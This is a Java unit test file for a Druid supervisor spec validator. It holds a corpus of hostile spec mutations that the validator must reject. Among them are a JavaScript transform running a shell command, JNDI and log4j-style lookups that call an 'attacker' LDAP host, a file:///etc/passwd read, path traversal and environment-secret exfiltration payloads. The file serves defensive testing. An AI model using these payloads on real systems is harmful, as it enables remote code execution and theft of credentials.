package io.canopy.controlplane.druid;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.canopy.controlplane.common.InvalidInputException;
import io.canopy.specs.EventsSpecs;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A corpus of hostile supervisor specs, each a mutation of the real rendered {@code events} spec:
 * every one is refused, naming the path at fault; the real spec passes.
 */
class SpecValidatorTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private final SpecValidator validator = new SpecValidator();

  private static ObjectNode events() {
    try {
      return (ObjectNode)
          JSON.readTree(
              EventsSpecs.render("events", "canopy-events", "127.0.0.1:9092", "k1").supervisor());
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static ObjectNode io(ObjectNode spec) {
    return spec.withObjectProperty("spec").withObjectProperty("ioConfig");
  }

  private static ObjectNode schema(ObjectNode spec) {
    return spec.withObjectProperty("spec").withObjectProperty("dataSchema");
  }

  private static JsonNode parse(String json) {
    try {
      return JSON.readTree(json);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static Arguments hostile(String name, String path, Consumer<ObjectNode> mutation) {
    return Arguments.of(name, path, mutation);
  }

  static Stream<Arguments> corpus() {
    return Stream.of(
        hostile("batch task instead of Kafka", "spec.type", s -> s.put("type", "index_parallel")),
        hostile(
            "JavaScript transform (CVE-2021-25646)",
            "spec.spec.dataSchema.transformSpec.transforms[0]",
            s ->
                schema(s)
                    .withObjectProperty("transformSpec")
                    .set(
                        "transforms",
                        parse(
                            "[{\"type\":\"javascript\",\"name\":\"x\",\"function\":\"function(){java.lang.Runtime.getRuntime().exec('id')}\"}]"))),
        hostile(
            "JavaScript filter with the empty-key bypass",
            "spec.spec.dataSchema.transformSpec.filter",
            s ->
                schema(s)
                    .withObjectProperty("transformSpec")
                    .set(
                        "filter",
                        parse(
                            "{\"type\":\"javascript\",\"dimension\":\"a\",\"function\":\"x\",\"\":{\"enabled\":true}}"))),
        hostile(
            "JavaScript aggregator",
            "spec.spec.dataSchema.metricsSpec[12].type",
            s ->
                ((ArrayNode) schema(s).get("metricsSpec"))
                    .add(parse("{\"type\":\"JavaScript\",\"name\":\"x\",\"fieldNames\":[]}"))),
        hostile(
            "JNDI through sasl.jaas.config (CVE-2023-25194)",
            "spec.spec.ioConfig.consumerProperties.sasl.jaas.config",
            s ->
                io(s)
                    .withObjectProperty("consumerProperties")
                    .put(
                        "sasl.jaas.config",
                        "com.sun.security.auth.module.JndiLoginModule required"
                            + " user.provider.url=\"ldap://attacker/x\" group.provider.url=\"x\";")),
        hostile(
            "tenant-chosen consumer property",
            "spec.spec.ioConfig.consumerProperties.ssl.truststore.location",
            s ->
                io(s)
                    .withObjectProperty("consumerProperties")
                    .put("ssl.truststore.location", "/etc/passwd")),
        hostile(
            "a login mechanism other than SCRAM",
            "spec.spec.ioConfig.consumerProperties.sasl.mechanism",
            s ->
                io(s)
                    .withObjectProperty("consumerProperties")
                    .put("sasl.mechanism", "OAUTHBEARER")),
        hostile(
            "a config provider other than Druid's environment",
            "spec.spec.ioConfig.consumerProperties.druid.dynamic.config.provider.type",
            s ->
                io(s)
                    .withObjectProperty("consumerProperties")
                    .set(
                        "druid.dynamic.config.provider",
                        parse("{\"type\":\"mapString\",\"config\":{\"sasl.jaas.config\":\"x\"}}"))),
        hostile(
            "Druid's environment read into another consumer property",
            "spec.spec.ioConfig.consumerProperties.druid.dynamic.config.provider.variables.sasl.jaas.config",
            s ->
                io(s)
                    .withObjectProperty("consumerProperties")
                    .set(
                        "druid.dynamic.config.provider",
                        parse(
                            "{\"type\":\"environment\",\"variables\":{\"bootstrap.servers\":\"CANOPY_INTERNAL_SECRET\"}}"))),
        hostile(
            "another of Druid's secrets read as the Kafka login",
            "spec.spec.ioConfig.consumerProperties.druid.dynamic.config.provider.variables.sasl.jaas.config",
            s ->
                io(s)
                    .withObjectProperty("consumerProperties")
                    .set(
                        "druid.dynamic.config.provider",
                        parse(
                            "{\"type\":\"environment\",\"variables\":{\"sasl.jaas.config\":\"CANOPY_INTERNAL_SECRET\"}}"))),
        hostile(
            "a second variable read from Druid's environment",
            "spec.spec.ioConfig.consumerProperties.druid.dynamic.config.provider",
            s ->
                io(s)
                    .withObjectProperty("consumerProperties")
                    .set(
                        "druid.dynamic.config.provider",
                        parse(
                            "{\"type\":\"environment\",\"variables\":{\"sasl.jaas.config\":\"CANOPY_KAFKA_JAAS_CONFIG\",\"sasl.client.callback.handler.class\":\"B\"}}"))),
        hostile(
            "HTTP input source reading a file (CVE-2021-36749)",
            "spec.spec.ioConfig.inputSource",
            s ->
                io(s)
                    .set(
                        "inputSource",
                        parse("{\"type\":\"http\",\"uris\":[\"file:///etc/passwd\"]}"))),
        hostile(
            "unknown input format",
            "spec.spec.ioConfig.inputFormat.type",
            s -> io(s).withObjectProperty("inputFormat").put("type", "regex")),
        hostile(
            "nested input format other than JSON",
            "spec.spec.ioConfig.inputFormat.inputFormat.type",
            s ->
                io(s)
                    .withObjectProperty("inputFormat")
                    .withObjectProperty("inputFormat")
                    .put("type", "avro_stream")),
        hostile(
            "unknown transform type",
            "spec.spec.dataSchema.transformSpec.transforms[0].type",
            s ->
                schema(s)
                    .withObjectProperty("transformSpec")
                    .set("transforms", parse("[{\"type\":\"shell\",\"name\":\"x\"}]"))),
        hostile(
            "too many tasks", "spec.spec.ioConfig.taskCount", s -> io(s).put("taskCount", 1000)),
        hostile(
            "task count as text", "spec.spec.ioConfig.taskCount", s -> io(s).put("taskCount", "1")),
        hostile("too many replicas", "spec.spec.ioConfig.replicas", s -> io(s).put("replicas", 10)),
        hostile(
            "path traversal in the datasource name",
            "spec.spec.dataSchema.dataSource",
            s -> schema(s).put("dataSource", "../../var/druid/segments")),
        hostile(
            "another topic's internals",
            "spec.spec.ioConfig.topic",
            s -> io(s).put("topic", "__consumer_offsets")),
        hostile(
            "log4j-style lookup in a value",
            "spec.spec.dataSchema.dimensionsSpec.dimensions[0]",
            s ->
                ((ArrayNode) schema(s).withObjectProperty("dimensionsSpec").get("dimensions"))
                    .set(0, JSON.getNodeFactory().textNode("${jndi:ldap://attacker/x}"))),
        hostile(
            "oversized value",
            "spec.spec.ioConfig.taskDuration",
            s -> io(s).put("taskDuration", "P".repeat(5000))),
        hostile(
            "deep nesting",
            "spec.spec.tuningConfig.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x",
            s -> {
              ObjectNode node = s.withObjectProperty("spec").withObjectProperty("tuningConfig");
              for (int i = 0; i < 20; i++) {
                node = node.putObject("x");
              }
            }),
        hostile(
            "legacy firehose",
            "spec.spec.ioConfig.firehose",
            s -> io(s).set("firehose", parse("{\"type\":\"local\",\"baseDir\":\"/\"}"))));
  }

  @Test
  void theRealEventsSpecPasses() {
    assertThatCode(() -> validator.validateSupervisor(events().toString()))
        .doesNotThrowAnyException();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void everyHostileSpecIsRefusedNamingThePath(
      String name, String path, Consumer<ObjectNode> mutation) {
    ObjectNode spec = events();
    mutation.accept(spec);

    assertThatThrownBy(() -> validator.validateSupervisor(spec.toString()))
        .as(name)
        .isInstanceOfSatisfying(
            SpecRejectedException.class,
            e -> {
              assertThat(e.kind()).isEqualTo(InvalidInputException.Kind.UNPROCESSABLE);
              assertThat(e.field()).startsWith(path);
            });
  }

  @Test
  void notJsonAndOversizedSpecsAreRefused() {
    assertThatThrownBy(() -> validator.validateSupervisor("{\"type\":"))
        .isInstanceOf(SpecRejectedException.class);
    assertThatThrownBy(() -> validator.validateSupervisor(" ".repeat(70_000) + "{}"))
        .hasMessageContaining("longer than");
  }
}
